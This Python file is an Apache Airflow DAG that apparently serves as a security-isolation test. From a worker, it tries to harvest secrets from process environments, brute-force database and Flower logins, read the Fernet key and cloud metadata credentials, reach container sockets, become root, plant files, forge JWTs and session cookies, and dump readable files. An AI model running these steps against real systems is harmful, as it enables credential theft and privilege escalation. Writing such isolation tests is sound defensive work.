"""A hostile DAG: from a worker it tries all that it should not be able to do (N.7).

What it got stands in LOOT, which the test reads in the container; no log and no XCom is told of it.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import socket
import time
import urllib.request
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path

from airflow.sdk import dag, task

LOOT = Path("/tmp/intruder.json")  # noqa: S108 - the worker's own
LARGEST = 2**20
"""Bytes of a file that is read."""
SHORTEST = 12
"""Characters of what may be a password."""
SYSTEM = ("/proc", "/sys", "/usr", "/dev", "/home", "/lib")
USERS = ("airflow", "airflow_owner", "airflow_admin", "postgres", "root")


class Nothing(Exception):
    """There was nothing to get."""


def _bodies(value: object) -> Iterator[str]:
    if isinstance(value, dict):
        for one in value.values():
            yield from _bodies(one)
    elif isinstance(value, str):
        yield value


def passwords() -> list[str]:
    """Whatever in this environment, and in that of the process that started all others, may be one."""
    found: dict[str, None] = {}
    started = Path("/proc/1/environ").read_bytes().decode(errors="replace").split("\0")
    for text in [*os.environ.values(), *(line.partition("=")[2] for line in started)]:
        found[text] = None
        try:
            found |= dict.fromkeys(_bodies(json.loads(text)))
        except ValueError:
            continue
    return [text for text in found if len(text) >= SHORTEST and "\0" not in text and not text.startswith(("/", "http"))]


def read_by_airflow(conf: dict[str, str]) -> str:
    from airflow.utils.session import create_session
    from sqlalchemy import text

    with create_session() as session:
        return str(session.execute(text("SELECT count(*) FROM dag_run")).scalar())


def log_in_to_the_database(conf: dict[str, str]) -> str:
    """With every password that it knows, under every name that it can think of."""
    import psycopg2

    refusals: set[str] = set()
    for user in (*USERS, conf["master"]):
        for password in passwords():
            try:
                psycopg2.connect(
                    host=conf["database"], user=user, password=password, dbname="airflow", sslmode="require"
                )
            except psycopg2.OperationalError as error:
                refusals.add("refused" if "password authentication failed" in str(error) else str(error))
            else:
                return f"{user} logs in"
    raise Nothing(", ".join(sorted(refusals)))


def read_the_fernet_key(conf: dict[str, str]) -> str:
    """Without one Airflow's settings have a word in its place, which is no key."""
    from airflow.providers.common.compat.sdk import conf as settings
    from cryptography.fernet import Fernet

    key = settings.get("core", "fernet_key", fallback="")
    Fernet(key.encode())
    return str(key)


def read_the_url_of_the_database(conf: dict[str, str]) -> str:
    from airflow.providers.common.compat.sdk import conf as settings

    url = settings.get("database", "sql_alchemy_conn", fallback="")
    if "postgres" not in url:
        raise Nothing("no URL of a server")
    return str(url)


def ask_the_machine_for_credentials(conf: dict[str, str]) -> str:
    """https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instance-metadata-security-credentials.html"""
    return _get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", seconds=5)


def command_the_engine(conf: dict[str, str]) -> str:
    for path in (
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/podman/podman.sock",
        "/run/containerd/containerd.sock",
    ):
        with socket.socket(socket.AF_UNIX) as engine:
            try:
                engine.connect(path)
            except OSError:
                continue
            return path
    raise Nothing("no socket")


def see_the_processes_of_others(conf: dict[str, str]) -> str:
    lines = [line for _, line in _processes("cmdline")]
    others = ("scheduler", "api-server", "dag-processor", "triggerer", "postgres", "redis-server", "flower")
    seen = [line for line in lines if any(f" {other}" in f" {line}" for other in others) and "intruder" not in line]
    if not seen:
        raise Nothing(f"{len(lines)} processes, all of this worker")
    return "\n".join(seen)


def become_root(conf: dict[str, str]) -> str:
    os.setuid(0)
    return "root"


def change_the_image(conf: dict[str, str]) -> str:
    Path("/opt/tarmac/tarmac_airflow/intruder.py").write_text("planted")
    return "written"


def change_a_dag(conf: dict[str, str]) -> str:
    """What the dag-processor would run, which knows the database."""
    planted = Path("/opt/airflow/dags/planted.py")
    planted.write_text("planted")
    planted.unlink()
    return "written"


def look_into_flower(conf: dict[str, str]) -> str:
    for password in passwords():
        login = base64.b64encode(f"flower:{password}".encode()).decode()
        try:
            return _get(f"http://flower.{_domain()}:5555/flower/api/workers", Authorization=f"Basic {login}")
        except OSError as error:
            refusal = error
    raise refusal


def forge_a_token(conf: dict[str, str]) -> str:
    """Signed with each key that it knows, as the API server signs those of its users."""

    def part(value: bytes) -> str:
        return base64.urlsafe_b64encode(value).rstrip(b"=").decode()

    now = int(time.time())
    claims = {"sub": "1", "iss": "airflow", "aud": "apache-airflow", "nbf": now, "exp": now + 600, "iat": now}
    for key in passwords():
        signed = ".".join(part(json.dumps(one).encode()) for one in ({"alg": "HS512", "typ": "JWT"}, claims))
        signature = part(hmac.new(key.encode(), signed.encode(), hashlib.sha512).digest())
        try:
            return _get(f"{_api_server()}/api/v2/connections", Authorization=f"Bearer {signed}.{signature}")
        except OSError as error:
            refusal = error
    raise refusal


def forge_a_session(conf: dict[str, str]) -> str:
    """With the key that signs Airflow's sessions, which the worker knows: as a session, and as the name of one."""
    from flask import Flask
    from flask.sessions import SecureCookieSessionInterface
    from itsdangerous import Signer

    app = Flask("intruder")
    app.secret_key = os.environ["AIRFLOW__API__SECRET_KEY"]
    serializer = SecureCookieSessionInterface().get_signing_serializer(app)
    assert serializer is not None
    name = Signer(app.secret_key, salt="flask-session", key_derivation="hmac").sign("1").decode()
    for cookie in (serializer.dumps({"_user_id": "1", "_fresh": True}), name):
        page = _get(f"{_api_server()}/auth/users/list/", Cookie=f"session={cookie}")
        if 'name="password"' not in page and "/auth/login" not in page:
            return page[:500]
    raise Nothing("the page of the login")


ATTEMPTS: tuple[Callable[[dict[str, str]], str], ...] = (
    read_by_airflow,
    log_in_to_the_database,
    read_the_fernet_key,
    read_the_url_of_the_database,
    ask_the_machine_for_credentials,
    command_the_engine,
    see_the_processes_of_others,
    become_root,
    change_the_image,
    change_a_dag,
    look_into_flower,
    forge_a_token,
    forge_a_session,
)


def _api_server() -> str:
    return os.environ["AIRFLOW__CORE__EXECUTION_API_SERVER_URL"].removesuffix("/execution/")


def _domain() -> str:
    return _api_server().split("//")[1].split(":")[0].partition(".")[2]


def _get(url: str, seconds: float = 120, **headers: str) -> str:
    request = urllib.request.Request(url, headers=headers)  # noqa: S310 - plain HTTP inside the network
    with urllib.request.urlopen(request, timeout=seconds) as answer:  # noqa: S310
        return str(answer.read(LARGEST).decode(errors="replace"))


def _processes(what: str) -> Iterator[tuple[str, str]]:
    for path in Path("/proc").glob(f"[0-9]*/{what}"):
        try:
            yield str(path), path.read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue


def _files() -> Iterator[tuple[str, str]]:
    for folder, below, names in os.walk("/"):
        below[:] = [name for name in below if os.path.join(folder, name) not in SYSTEM]
        for name in names:
            path = Path(folder, name)
            try:
                if path.is_file() and path != LOOT and path.stat().st_size <= LARGEST:
                    yield str(path), path.read_bytes().decode(errors="replace")
            except OSError:
                continue


@dag(schedule=None, start_date=datetime(2026, 1, 1))
def intruder() -> None:
    @task
    def steal(**context: object) -> None:
        conf: dict[str, str] = context["dag_run"].conf  # type: ignore[attr-defined]
        got, refused = {}, {}
        for attempt in ATTEMPTS:
            try:
                got[attempt.__name__] = attempt(conf)
            except Exception as error:
                refused[attempt.__name__] = f"{type(error).__name__}: {error}"
        seen = dict([*_processes("environ"), *_processes("cmdline"), *_files()])
        LOOT.write_text(json.dumps({"got": got, "refused": refused, "seen": seen}))

    steal()


intruder()
